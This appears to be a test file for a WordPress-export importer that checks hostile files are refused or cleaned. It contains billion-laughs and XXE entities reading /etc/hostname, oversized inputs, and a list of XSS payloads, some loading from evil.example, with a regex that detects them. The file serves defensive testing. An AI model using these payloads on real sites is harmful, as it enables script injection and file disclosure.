import { expect, it } from 'vitest';
import { openImportSite } from '../../../tests/support/import-site.ts';

/** Longer than a part in which a file is read. */
const PART = 130_000;
const SECRET = 'file:///etc/hostname';

const item = (id: number, content: string, title = `Post ${id}`) =>
  `<item><title>${title}</title><link>http://old.example/post-${id}/</link><content:encoded><![CDATA[${content}]]></content:encoded>
<wp:post_id>${id}</wp:post_id><wp:post_date_gmt>2024-05-01 12:00:00</wp:post_date_gmt><wp:post_name>post-${id}</wp:post_name>
<wp:status>publish</wp:status><wp:post_type>post</wp:post_type></item>`;
const exportOf = (items: string, before = '', channel = '') =>
  `<?xml version="1.0"?>${before}<rss xmlns:wp="wp" xmlns:content="c"><channel><wp:wxr_version>1.2</wp:wxr_version>
<wp:base_blog_url>http://old.example</wp:base_blog_url>${channel}${items}</channel></rss>`;
const laughs = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('');

it.each<[string, Blob | string, RegExp]>([
  [
    'entities within entities',
    exportOf(item(1, '&l9;'), `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]>`),
    /type decl/,
  ],
  [
    'an entity of a file',
    exportOf(item(1, '&x;'), `<!DOCTYPE r [<!ENTITY x SYSTEM "${SECRET}">]>`),
    /type decl/,
  ],
  [
    'an entity of a parameter',
    exportOf(item(1, ''), `<!DOCTYPE r [<!ENTITY % x SYSTEM "${SECRET}">%x;]>`),
    /type decl/,
  ],
  ['a declaration in small letters', exportOf(item(1, ''), '<!doctype rss>'), /type decl/],
  [
    'a declaration cut by two parts',
    exportOf(item(1, ''), `${' '.repeat(PART - 25)}<!DOCTYPE rss>`),
    /type decl/,
  ],
  ['a declaration within it', exportOf(`<!ENTITY x "y">${item(1, '')}`), /type decl/],
  [
    'a declaration in UTF-16',
    new Blob([Uint8Array.from(Buffer.from(`\ufeff${exportOf(item(1, ''), '<!DOCTYPE rss>')}`, 'utf16le'))]),
    /type decl/,
  ],
  ['elements within 50,000 others', exportOf('<b>'.repeat(50_000)), /nested more deeply/],
  ['an attribute of 33 MB', exportOf(`<b c="${'x'.repeat(33 * 1024 ** 2)}"/>`), /longer than 32 MB/],
  ['a text of 33 MB', exportOf(item(1, 'x'.repeat(33 * 1024 ** 2))), /longer than 32 MB/],
  ['nothing', '', /not a WordPress export/],
  ['an image', new Blob([Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0])]), /not a WordPress export/],
])('a file with %s is refused', async (_, xml, reason) => {
  const site = await openImportSite();
  const answer = await site.fromFile(xml);
  expect(answer).toMatchObject({ success: false, error: expect.stringMatching(reason) });
  expect((await site.posts()).size).toBe(0);
  expect(site.wordpress.requests).toEqual([]);
});

it('what an export may have around its posts is not followed', async () => {
  const site = await openImportSite();
  const { url } = site.wordpress;
  const answer = await site.fromFile(
    exportOf(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}/x"/>${item(1, 'Text')}`,
      `<?xml-stylesheet href="${url}/style.xsl"?>`,
      `<!--${'x'.repeat(2 * PART)}-->${'<wp:category><wp:cat_name>x</wp:cat_name></wp:category>'.repeat(50_000)}`,
    ),
  );
  expect(answer).toMatchObject({ success: true, results: { total: 1, imported: 1, errors: [] } });
  expect(site.wordpress.requests).toEqual([]);
});

const many = (text: string, count: number) => text.repeat(count);
/** Texts that are to be stored without harm, each with words that stay. */
const TEXTS: [name: string, content: string][] = [
  ['elements within 20,000 others', `${many('<div>', 20_000)}kept`],
  ['40,000 elements without an end', `${many('<b><i>', 20_000)}kept`],
  ['tables in tables', `${many('<table><tr><td>', 3000)}kept`],
  ['lists in lists', `${many('<ul><li>', 5000)}kept`],
  ['quotations in quotations', `${many('<blockquote>', 5000)}kept`],
  ['end tags without a start', `${many('</div></b>', 20_000)}kept`],
  ['brackets', `${many('[', 100_000)}kept`],
  ['shortcodes without an end', `${many('[caption id="x"]', 10_000)}kept`],
  ['shortcodes in shortcodes', `${many('[vc_row]', 2000)}kept${many('[/vc_row]', 2000)}`],
  ['galleries', `${many('[gallery ids="1,2,3"]', 3000)}kept`],
  ['comments without an end', `kept${many('<!-- wp:paragraph ', 10_000)}`],
  ['comments of blocks', `${many('<!-- wp:group --><!-- /wp:group -->', 10_000)}kept`],
  ['blank lines', `kept${many('\n\n', 100_000)}`],
  ['addresses alone on lines', `${many('http://old.example/x\n', 5000)}kept`],
  ['an attribute of 1 MB', `<p title="${many('x', 1_000_000)}">kept</p>`],
  [
    '20,000 attributes',
    `<p ${Array.from({ length: 20_000 }, (_, index) => `a${index}="x"`).join(' ')}>kept</p>`,
  ],
  ['code without an end', `${many('<pre><code>', 5000)}kept`],
  ['entities', `${many('&amp;', 100_000)}kept`],
  ['control characters', 'ke\u0000\u0001\u0008\u000bpt kept\ufffe\uffff'],
  ['lone surrogates', '\ud800kept\udc00'],
  ['directions of writing', '\u202ekept\u202c'],
  ['a section within a section', 'kept <![CDATA[ x ]]]]><![CDATA[> y'],
];

it('texts that are to fill the memory or the time are stored', { timeout: 120_000 }, async () => {
  const site = await openImportSite();
  const answer = await site.fromFile(
    exportOf(TEXTS.map(([, text], index) => item(index + 1, text)).join('')),
  );
  expect(answer.results?.errors).toEqual([]);
  const posts = await site.posts();
  for (const [index, [name]] of TEXTS.entries()) {
    const content = posts.get(index + 1)?.content ?? '';
    expect(content, name).toContain('kept');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these must be gone
    expect(content, name).not.toMatch(/[\u0000-\u0008\ud800-\udfff\ufffe\uffff]/u);
  }
});

/** Texts that are to run a script, or to show another site within this one. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '[caption]<img src=x onerror=alert(1)>[/caption]',
  '[caption caption="<script>alert(1)</script>"]<img src="/x.jpg">[/caption]',
  '[audio src="javascript:alert(1)"]',
  '[embed]javascript:alert(1)[/embed]',
  '[vc_raw_html]JTNDc2NyaXB0JTNFYWxlcnQoMSklM0MlMkZzY3JpcHQlM0U=[/vc_raw_html]',
  '[vc_btn title="x" link="url:javascript%3Aalert(1)|title:x"]',
  '[code]</code></pre><script>alert(1)</script>[/code]',
  '<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
];
const ACTIVE =
  /<(?:script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|template|noscript)\b|<[^>]*\s(?:on\w+|srcdoc|style|formaction)\s*=|=\s*"\s*(?:javascript|vbscript|data):|="\/\/evil/i;

it('texts that are to run scripts are stored without them', async () => {
  const site = await openImportSite();
  const answer = await site.fromFile(
    exportOf(SCRIPTS.map((text, index) => item(index + 1, `${text}<p>kept</p>`)).join('')),
  );
  expect(answer).toMatchObject({ success: true, results: { imported: SCRIPTS.length, errors: [] } });
  const posts = await site.posts();
  for (const [index, text] of SCRIPTS.entries()) {
    const content = posts.get(index + 1)?.content ?? '';
    expect(content, text).toContain('kept');
    expect(content, text).not.toMatch(ACTIVE);
  }
});
